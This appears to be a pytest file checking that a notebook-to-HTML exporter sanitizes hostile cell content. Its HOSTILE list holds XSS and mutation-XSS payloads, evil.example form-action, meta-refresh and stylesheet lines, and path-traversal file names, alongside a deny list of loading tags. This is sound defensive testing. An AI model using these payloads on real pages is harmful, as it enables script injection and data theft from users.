"""Nothing from a notebook runs, loads anything or leaves its place, wherever in the notebook it stands."""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from adaptoid_widget.core.game.game import Game
from adaptoid_widget.export.notebook.reading import read_notebook
from adaptoid_widget.export.notebook.sanitizing import MAX_CHARACTERS, TooDeep, cleaned
from adaptoid_widget.export.notebook.tutorial import Tutorial, make
from adaptoid_widget.export.output_content import game_content
from tests.export.notebook.sample import board_outputs, code, display, markdown, notebook, stream
from tests.export.test_share import Reader
from tests.repetitions import repetitions

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a><foreignObject><b onclick=alert(1)>x",
    "<a href='javascript:alert(1)'>x</a><a href=' java\tscript:alert(1)'>x</a><a href='data:text/html,x'>x</a>",
    "</pre></div></section></article></main></body></html><p>out",
    "</adaptoid-board></details></code><adaptoid-board data-content='0'>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>*{display:none}</style><link rel=stylesheet href='https://evil.example/x.css'>",
    "<form action='https://evil.example/'><input name=x><button>Go</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<div id=adaptoid-live class='trouble adaptoid-widget' style='position:fixed' onclick=alert(1)>x",
    "<section data-code=0 data-stored=x><textarea>x</textarea><button data-run>Run</button></section>",
    "<b><i><table><tr><td>unclosed <!-- comment",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<plaintext>", "<xmp><script>alert(1)</script>", "<template><script>alert(1)</script></template>",
    "<video src=x onerror=alert(1)></video><audio autoplay src=https://evil.example/x></audio>",
    "<img src='https://evil.example/x.png' srcset='https://evil.example/y.png'>",
    "$\\href{javascript:alert(1)}{x}$ $\\text{<img src=x onerror=alert(1)>}$ $</script><script>alert(1)</script>$",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "```{note} <script>alert(1)</script>\n</div></div><script>alert(1)</script>\n```",
    "{{script}} \x00 \U0001f600 ]]> <![CDATA[ <script>alert(1)</script> ]]>",
]  # fmt: skip
# what the page itself has in its article
OWN = {"div": {"id", "hidden"}, "section": {"data-code", "data-stored", "data-folded", "hidden"}}
LOADING = (
    {"script", "iframe", "object", "embed", "link", "meta", "base", "style", "form", "input", "button", "svg"}
    | {"textarea", "template", "video", "audio", "source", "plaintext", "xmp", "frame", "foreignobject"}
)  # fmt: skip


class Article(HTMLParser):
    """What stands in the article of a page, with a check that everything in it is ended."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.open: list[str] = []
        body = page[page.index("</noscript>", page.index("<main")) :].removeprefix("</noscript>")
        self.text = body[: body.index('<div id="adaptoid-toolbar"')]
        self.feed(self.text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in ("img", "br", "hr", "wbr", "col"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open, f"</{tag}> ends what is not in the article"
        assert self.open[-1] == tag, f"</{tag}> ends {self.open}"
        self.open.pop()


def made(*cells: dict[str, Any], folder: Path | None = None) -> Tutorial:
    """The page of a notebook."""
    return make(read_notebook(json.loads(json.dumps(notebook(*cells))), "x.ipynb"), folder, "x", None, None)


def check(tutorial: Tutorial, contents: int = 0) -> Article:
    """The article of a page, after a look at all that is in it."""
    page = Reader(tutorial.page)
    assert page.policy["default-src"] == ["'none'"]
    assert len(page.all("main")) == len(page.all("footer")) == 1
    article = Article(tutorial.page)
    assert article.open == []
    boards = [attributes for tag, attributes in article.elements if tag == "adaptoid-board"]
    assert [board["data-content"] for board in boards] == [str(number) for number in range(contents)]
    for tag, attributes in article.elements:
        assert tag not in LOADING
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in ("style", "srcset", "srcdoc", "action", "formaction", "xlink:href")
            if name == "src":
                assert value.startswith("data:image/")
            if name == "href":
                assert value.startswith(("#note-", "https:", "http:", "mailto:"))
            if name in ("id", "name"):
                assert value.startswith("note-")
            if name.startswith("data-"):
                assert tag != "textarea"
    return article


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless_everywhere(text: str) -> None:
    """In Markdown, code, and outputs of every kind."""
    cells = [
        markdown(f"# {text}"),
        markdown(text, attachments={text: {"image/png": text, "image/svg+xml": text}}),
        markdown(f"> {text}\n\n- {text}\n\n| {text} | b |\n|--|--|\n| {text} | c |"),
        code(
            text,
            stream(text),
            stream(text, "stderr"),
            {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
            {"output_type": text, "data": {}},
            display({"text/html": text, "text/plain": text}),
            display({"text/html": [text], "text/plain": [text]}),
            display({"text/markdown": text}),
            display({"text/latex": text}),
            display({"text/plain": text}),
            display({"image/svg+xml": f"<svg>{text}</svg>", "text/plain": text}),
            display({"image/png": text}, **{"image/png": {"width": text}}),
            display({"application/javascript": text, "text/plain": text}),
            display({"application/json": {text: text}}),
            display({text: text}),
            tags=("hide-input", text),
        ),
        code("board", *board_outputs({"version": 1, "kind": text}, text), tags=("hide-cell",)),
        {"cell_type": "raw", "metadata": {}, "source": text},
    ]
    check(made(*cells))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_html_is_cleaned_to_what_is_clean(text: str) -> None:
    """To clean it once more changes nothing."""
    once = cleaned(text, lambda _: None, lambda words: f"<i>{words}</i>")
    assert cleaned(once, lambda _: None, str).replace("note-note-", "note-") == once


def test_hostile_words_in_a_game_are_only_data() -> None:
    game = Game().play("+D3")
    game.comment = "</script><script>alert(1)</script>"
    article = check(made(code("board", *board_outputs(game_content(game, {})))), contents=1)
    assert "alert" not in article.text


def test_a_content_that_was_tampered_with_leaves_the_picture_and_a_note() -> None:
    content = game_content(Game().play("+D3"), {})
    content["game"]["record"][3] = "1 +Z9"
    tutorial = made(markdown("text"), code("board", *board_outputs(content)))
    article = check(tutorial)
    assert "data:image/svg+xml" in article.text
    assert [text.partition(":")[0] for text in tutorial.left_out] == ["cell 2"]
    assert "line 4" in tutorial.left_out[0]


def test_a_notebook_gets_no_file_from_outside_of_its_folder(tmp_path: Path) -> None:
    secret = b"\x89PNG\r\n\x1a\nsecret"
    (tmp_path / "secret.png").write_bytes(secret)
    folder = tmp_path / "notebooks"
    folder.mkdir()
    (folder / "own.png").write_bytes(secret)
    (folder / "linked.png").symlink_to(tmp_path / "secret.png")
    (folder / "text.png").write_text("secret", encoding="utf-8")
    names = (
        "own.png",
        "../secret.png",
        "linked.png",
        "text.png",
        "%2e%2e/secret.png",
        str(tmp_path / "secret.png"),
    )
    article = check(made(*[markdown(f"![{name}]({name})") for name in names], folder=folder))
    assert len([tag for tag, _ in article.elements if tag == "img"]) == 1


def test_html_that_is_too_deep_is_left_out() -> None:
    with pytest.raises(TooDeep):
        cleaned("<div>" * 500, lambda _: None, str)
    with pytest.raises(TooDeep):
        cleaned("<svg>" + "<td>" * 500, lambda _: None, str)
    deep = "<div><b>" * 100_000
    tutorial = made(markdown(deep), code("x", display({"text/html": deep})), code("y", stream("[" * 100_000)))
    check(tutorial)
    assert len(tutorial.left_out) == 1


@pytest.mark.slow
def test_of_fifty_megabytes_of_outputs_the_page_has_what_can_be_read() -> None:
    """In other than nightly runs, a tenth of all but the picture."""
    size = repetitions(1, 10)
    row = "<tr><td>1</td><td>hello</td></tr>"
    cells = [
        code("a", stream("0123456789" * 100_000 * size)),
        code("b", *[display({"text/html": f"<table>{row * 3_000 * size}</table>"}) for _ in range(15)]),
        code("c", *[stream(f"{n}\n" * 1_000, "stdout" if n % 2 else "stderr") for n in range(300 * size)]),
        code("d", display({"text/plain": "x" * 1_000_000 * size})),
        code("e", display({"image/png": "iVBORw0KGgo" + "A" * 9_999_989})),
        code("f", display({"text/html": "x" * (MAX_CHARACTERS + 1)})),
    ]
    assert len(json.dumps(cells)) > 5_000_000 * size
    tutorial = made(*cells)
    check(tutorial)
    assert len(tutorial.left_out) > 0
    assert len(tutorial.page) < 10_000_000 + 4_000_000 * size
